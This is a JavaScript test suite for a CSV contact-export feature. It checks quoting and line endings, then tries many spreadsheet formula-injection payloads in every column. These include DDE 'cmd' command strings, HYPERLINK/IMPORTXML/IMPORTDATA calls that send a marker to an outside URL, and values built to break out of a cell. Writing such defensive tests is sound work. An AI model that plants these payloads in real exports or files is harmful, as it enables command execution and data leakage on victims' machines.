/** The records of a CSV file, read as spreadsheet programs do: lines end with LF, too. */
function records(text) {
  const all = [[]];
  let field = '';
  let at = 0;
  while (at < text.length) {
    if (text[at] === '"' && field === '') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] === '"') {
          if (text[at + 1] !== '"') break;
          at += 1;
        }
        field += text[at];
      }
      at += 1;
    }
    while (at < text.length && !',\r\n'.includes(text[at])) {
      field += text[at];
      at += 1;
    }
    all.at(-1).push(field);
    field = '';
    if (text[at] === ',') {
      at += 1;
      if (at >= text.length) all.at(-1).push('');
      continue;
    }
    while (at < text.length && '\r\n'.includes(text[at])) at += 1;
    if (at < text.length) all.push([]);
  }
  return all;
}

const header = ['name', 'email', 'company', 'phone', 'note'];

export default function checks(t) {
  const file = async (...contacts) => {
    const text = await (await t.start()).call('export', contacts.flat());
    return Buffer.isBuffer(text) ? text.toString('utf8') : text;
  };

  const table = async (...contacts) => {
    const text = await file(...contacts);
    t.ok(typeof text === 'string', 'no text');
    return records(text);
  };

  const ada = ['Ada Lovelace', 'ada@example.org', 'Analytical Engines', '030 1234567', 'likes tea'];
  const bob = ['Bob', 'bob@example.org', '', '', ''];

  t.functional('the header, and a record for each contact', async () => {
    t.equal(await table(), [header]);
    t.equal(await table(ada, bob), [header, ada, bob]);
  });

  t.functional('records end with CR LF', async () => {
    const text = await file(ada, bob);
    t.equal(typeof text === 'string' && text.split('\r\n').length, 4);
    t.ok(text.endsWith('\r\n'), 'the end of the last record');
  });

  t.functional('quotes what needs it', async () => {
    const odd = ['Smith, "Jo"', 'jo@example.org', 'A, B "and" C', '1', 'two\nlines, one "quote"'];
    t.equal(await table(odd, ada), [header, odd, ada]);
    t.equal(await table(['"', '""', ',', '","', '"x"']), [header, ['"', '""', ',', '","', '"x"']]);
  });

  t.control('signs within a text are ordinary', async () => {
    const plain = [
      'Ann-Marie O’Neill',
      'ann+news@ex-ample.org',
      'A=B & C@D',
      '030-12 34',
      '1+1=2 @home',
    ];
    t.equal(await table(plain), [header, plain]);
    const other = ['Zoë (Zo)', 'z@example.org', '50% off!', '(0)30/12', '"=" and "+" are signs'];
    t.equal(await table(other, bob), [header, other, bob]);
  });

  /** Puts each text into each column. A cell is a formula when its first character says so. */
  const attack = async (texts) => {
    for (const text of texts) {
      for (const column of header.keys()) {
        const mark = t.secret();
        const contact = ada.with(column, text.replaceAll('MARK', mark));
        const { value } = await t.attempt(file(bob, contact, bob));
        if (typeof value !== 'string') continue;
        const formula = records(value)
          .flat()
          .find((cell) => cell.includes(mark) && /^[=+\-@]/.test(cell));
        if (formula)
          return `${JSON.stringify(text)} as ${header[column]} made the cell ${JSON.stringify(formula)}`;
      }
    }
    return null;
  };

  t.exploit('a text that begins with =', () =>
    attack([
      '=HYPERLINK("http://example.org/?MARK","Click")',
      '=1+1&"MARK"',
      "=cmd|' /C MARK'!A0",
      '=MARK',
    ]),
  );

  // Beats looking for "=" only.
  t.exploit('a text that begins with another sign of a formula', () =>
    attack([
      "+1+cmd|' /C MARK'!A0",
      "-2+3+cmd|' /C MARK'!A0",
      '@SUM(1+1)*MARK(1)',
      '+MARK',
      '-MARK',
      '@MARK',
    ]),
  );

  // Beats letting pass what looks like a phone number at first, or like a negative one.
  t.exploit('a number with a formula behind it', () =>
    attack([
      '+49 30 1234+HYPERLINK("http://example.org/?MARK")',
      "+4930*cmd|'/C MARK'!A0",
      '-1+IMPORTXML("http://example.org/MARK","//a")',
      '-1234567 MARK()',
      '+1\n=MARK',
    ]),
  );

  // Beats quotes around the cell, which the spreadsheet takes away, and a look at what they hide.
  t.exploit('a formula that holds commas, quotes and lines', () =>
    attack([
      '=IMPORTDATA(CONCATENATE("http://example.org/MARK?",A1))',
      '="MARK"',
      '=A1,"MARK"',
      '=1\n"MARK"',
      '@A("MARK",1)',
      '+"MARK"',
    ]),
  );

  // Beats looking at the beginning of the text only: the answer may end the cell itself.
  t.exploit('a text that makes a cell of its own', () =>
    attack([
      'x","=MARK',
      'x",=MARK',
      'x\r\n=MARK',
      'x\n=MARK',
      'x\r=MARK',
      'x,=MARK',
      'x"\r\n"=MARK',
      '",=MARK,"',
      '"=MARK"',
      '""=MARK',
    ]),
  );

  // Beats taking the sign away once.
  t.exploit('signs one after the other', () =>
    attack([
      '==MARK',
      '=+MARK',
      '@=MARK',
      '--MARK',
      '+++++=MARK',
      '-=MARK',
      `${'='.repeat(30)}MARK`,
    ]),
  );
}
